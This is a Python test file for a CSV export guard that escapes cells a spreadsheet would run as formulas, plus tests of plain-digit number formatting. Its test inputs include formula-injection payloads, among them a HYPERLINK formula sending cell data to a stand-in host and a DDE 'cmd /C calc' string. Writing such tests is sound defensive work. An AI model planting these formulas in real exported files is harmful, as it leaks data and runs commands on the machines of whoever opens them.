"""Cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emban.kit.csv_cells import plain_digits, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\n=x",
        "  =1",
        "\t=1",
        '"=1',
        "'=1",
        "''  \"=1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b=1",
        "\x00=1",
        "“=1",
        "＝1",  # noqa: RUF001
        " ＠SUM(A1)",  # noqa: RUF001
        '=HYPERLINK("https://evil.example?x="&A1)',
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", " ", "'", "gpt-4", "a=1", "1+1", "it's", "user@acme.example", "'quoted'", "3 > 2"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


DIGITS = [
    (0, "0"),
    (-0.0, "0"),
    (12.0, "12"),
    (0.1, "0.1"),
    (5.8e16, "58000000000000000"),
    (2**60, "1152921504606846976"),
    (-1.5e-9, "-0.0000000015"),
    (1e300, "1" + "0" * 300),
]


@pytest.mark.parametrize(("number", "digits"), DIGITS)
def test_numbers_have_plain_digits(number: float, digits: str) -> None:
    assert plain_digits(number) == digits


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_digits_are_the_number(number: float) -> None:
    assert "e" not in plain_digits(number)
    assert float(plain_digits(number)) == number
